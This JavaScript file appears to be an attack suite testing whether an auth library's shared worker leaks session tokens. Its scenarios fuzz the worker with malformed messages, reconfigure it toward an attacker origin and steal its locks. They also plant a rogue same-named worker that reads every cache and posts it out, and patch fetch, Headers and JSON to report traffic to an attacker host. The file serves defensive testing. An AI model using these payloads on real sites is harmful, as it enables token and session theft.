// Words with the worker: over the page's own connection, over another one, and at its door.
import { INIT, begin, connect, nameOf, overhear } from "./connection.js";

/** As the app's, but for these options. */
const configure = (options) => {
  const own = { tokenUrl: "/api/token", refresh: { url: "/api/token/refresh" }, attach: { to: ["/api"] } };
  const all = { ...own, isolation: "shared-worker", ...options };
  return { type: "configure", version: 1, options: all, base: location.href, lock: null };
};

const WORDS = ["token", "getToken", "session", "state", "secrets", "export", "dump", "eval", "plain", "url", "show", "held"];
const INHERITED = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "then"];

/** Everything that an honest worker says no to, or nothing. */
async function pester({ ask, post }, { attacker }) {
  // Not asked one by one, for the app's renewals that would go with it are more than a careless session survives.
  [...WORDS, ...INHERITED].forEach((type, i) => post({ type, id: 900_000 + i }));
  const hop = `/api/hop?status=307&to=${encodeURIComponent(attacker)}`;
  const targets = [attacker, `http://${location.host}@${new URL(attacker).host}`, "/api/token/refresh", hop];
  const calls = targets.map((url) => ask({ type: "fetch", url: new URL(url, location.href).href, init: INIT, body: null }));
  const echo = ask({ type: "fetch", url: `${location.origin}/api/reflect?as=json`, init: INIT, body: null });
  await Promise.all([...calls, echo, ask({ type: "refresh" }), ask({ type: "judge", url: attacker })]);
}

const ASKED = { naive: "naive-worker" };

export default [
  {
    name: "its own connection: any word for the token, any address",
    before: "token no no no",
    ...ASKED,
    async run(kit) {
      for (const connection of await overhear(kit)) await pester(connection, kit);
    },
  },
  {
    name: "its own connection: configured once more, with a wider list",
    before: "token no no no",
    ...ASKED,
    async run(kit) {
      const { origin } = new URL(kit.attacker);
      for (const { ask, configured } of await overhear(kit)) {
        const attach = { ...configured.options.attach, to: [origin, "/"] };
        await ask({ ...configured, options: { ...configured.options, attach } });
        await ask({ ...configured, version: 0 });
        await ask({ type: "fetch", url: `${kit.attacker}/got`, init: INIT, body: null });
      }
    },
  },
  {
    name: "its own connection: malformed messages",
    before: "token no no no",
    ...ASKED,
    async run(kit) {
      const ids = [undefined, null, -1, 0, 1, 2, 3, NaN, 1e300, "1", "__proto__", {}, [], true, new Map(), new Date(0), 2 ** 53];
      // Nearly: the real ones would end the session.
      const ofCalls = ["login", "adopt", "logout ", "refresh", "judge", "fetch", "abort", "wake", "Configure"];
      const types = [...ofCalls, "chunk", "end", "broken", "pull", ...INHERITED];
      const values = [undefined, null, "x", -1, {}, [["x"]], new Uint8Array(3), new Error("x"), new Blob(["x"]), { then: 1 }];
      for (const { post, ask } of await overhear(kit)) {
        let id = 500_000;
        for (const type of types) {
          for (const id of ids) post({ type, id });
          for (const v of values) {
            post({ type, id: ++id, credentials: v, answer: v, url: v, init: v, body: v, bytes: v, error: v });
          }
        }
        for (const message of [null, undefined, 1, "configure", [], new Map(), "x".repeat(5e6), { type: ["fetch"] }]) post(message);
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => kit.loot(data);
        post({ type: "fetch", id: 77, url: port2, init: INIT, body: ["stream"] }, [port2]);
        await ask({ type: "judge", url: "/api" });
      }
    },
  },
  {
    name: "its own connection: the body of an echo, message by message",
    before: "token no no no",
    ...ASKED,
    async run(kit) {
      for (const { ask } of await overhear(kit)) {
        for (const as of ["plain", "json", "chunks", "letters", "events", "header", "address", "error"]) {
          await ask({ type: "fetch", url: `${location.origin}/api/reflect?as=${as}`, init: INIT, body: null });
        }
      }
    },
  },
  {
    name: "a second connection, configured alike",
    after: "token no no no",
    ...ASKED,
    async run(kit) {
      const connection = connect(kit);
      await connection.ask(configure());
      await pester(connection, kit);
    },
  },
  {
    name: "a second connection, configured otherwise: lists, endpoints, names",
    after: "token no no no",
    ...ASKED,
    async run(kit) {
      const { attacker } = kit;
      const { origin } = new URL(attacker);
      const others = [
        { attach: { to: [origin, "/api"] } },
        { tokenUrl: attacker },
        { refresh: { url: attacker } },
        { logout: { url: attacker } },
        { response: { user: "token" } },
        { login: { headers: { "x-a": "1" } } },
        { attach: { to: ["/api"], header: "authorization" } },
        { attach: { to: ["/api"], redirects: "follow" } },
        { isolation: "page", attach: { query: "token" } },
        JSON.parse('{"__proto__": {"attach": {"to": ["/"]}}, "constructor": 1}'),
      ];
      for (const options of others) {
        const { ask } = connect(kit);
        await ask(configure(options));
        await Promise.all([
          ask({ type: "fetch", url: `${attacker}/got`, init: INIT, body: null }),
          ask({ type: "refresh" }),
          ask({ type: "token" }),
        ]);
      }
    },
  },
  {
    name: "a second connection, without configure and in a wrong order",
    after: "token no no no",
    ...ASKED,
    async run(kit) {
      await kit.signedIn;
      const { ask, post } = connect(kit);
      await pester({ ask, post }, kit);
      post({ type: "close" });
      await pester({ ask, post }, kit);
      await ask({ ...configure(), version: 2 });
      await ask({ ...configure(), base: kit.attacker });
      await pester({ ask, post }, kit);
      // A connection takes its time, and so do answers on it.
      await kit.worked;
    },
  },
  {
    name: "all tabs signed off the worker, then another configuration",
    after: "token no no no",
    ...ASKED,
    async run(kit) {
      const { attacker } = kit;
      const { origin } = new URL(attacker);
      await kit.worked;
      const { held } = await navigator.locks.query();
      for (const { name } of held) navigator.locks.request(name, { steal: true }, () => {}).catch(() => {});
      window.auth.close?.();
      const { ask } = connect(kit);
      await ask(configure({ attach: { to: [origin, "/api"] }, logout: { url: attacker } }));
      const init = { ...INIT, credentials: "omit" };
      await ask({ type: "fetch", url: `${attacker}/got`, init, body: null });
      await Promise.all([ask({ type: "refresh" }), ask({ type: "token" })]);
      await ask({ type: "logout" });
    },
  },
  {
    name: "a worker of his own under the same name",
    after: "token no no no",
    ...ASKED,
    async run(kit) {
      const { attacker, loot, outcome } = kit;
      const source = `
        const init = { method: "POST", mode: "no-cors" };
        const report = (data) => fetch(${JSON.stringify(attacker)}, { ...init, body: JSON.stringify(data) });
        globalThis.onconnect = ({ ports: [port] }) => (port.onmessage = ({ data }) => report(data));
        globalThis.onmessage = ({ data }) => report(data);
        caches.keys().then(async (names) => {
          for (const name of names) {
            const cache = await caches.open(name);
            for (const request of await cache.keys()) await report(await (await cache.match(request)).text());
          }
          globalThis.postMessage?.("walked");
        });`;
      const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
      const { port } = new SharedWorker(url, { type: "module", name: nameOf() });
      port.onmessage = ({ data }) => loot(data);
      port.postMessage(configure());
      const worker = new Worker(url, { type: "module", name: nameOf() });
      const walked = new Promise((resolve) => {
        worker.onmessage = ({ data }) => (data === "walked" ? resolve() : loot(data));
        worker.onerror = resolve;
      });
      // The app starts once more, and may take it for its own.
      const other = await outcome((async () => window.createAuth(window.settings))());
      loot(await outcome((async () => other.ready)()), await outcome((async () => other.refresh())()));
      await walked;
    },
  },
  {
    name: "the worker's script in a realm of his own, natives patched",
    after: "token no no no",
    ...ASKED,
    async run(kit) {
      const script = kit.mode === "naive" ? "/attacks/pages/naive_worker.js" : "/pkg/jotpass_worker.js";
      const source = `
        const send = globalThis.fetch;
        const init = { method: "POST", mode: "no-cors" };
        const { stringify } = JSON;
        const report = (...data) => send(${JSON.stringify(kit.attacker)}, { ...init, body: stringify(data) });
        const methods = [[globalThis, "fetch"], [Headers.prototype, "set"], [JSON, "parse"], [Response.prototype, "text"]];
        for (const [object, name] of methods) {
          const native = object[name];
          object[name] = function (...args) {
            report(args);
            const result = Reflect.apply(native, this, args);
            Promise.resolve(result).then(report, () => {});
            return result;
          };
        }
        await import(${JSON.stringify(new URL(script, location.href).href)});
        postMessage({ type: "there" });`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), { type: "module" });
      await new Promise((resolve) => Object.assign(worker, { onmessage: resolve, onerror: resolve }));
      const { ask } = begin(worker, kit);
      await ask(configure({ isolation: "worker" }));
      await Promise.all(["refresh", "token"].map((type) => ask({ type })));
      await ask({ type: "fetch", url: `${location.origin}/api/something`, init: INIT, body: null });
    },
  },
];
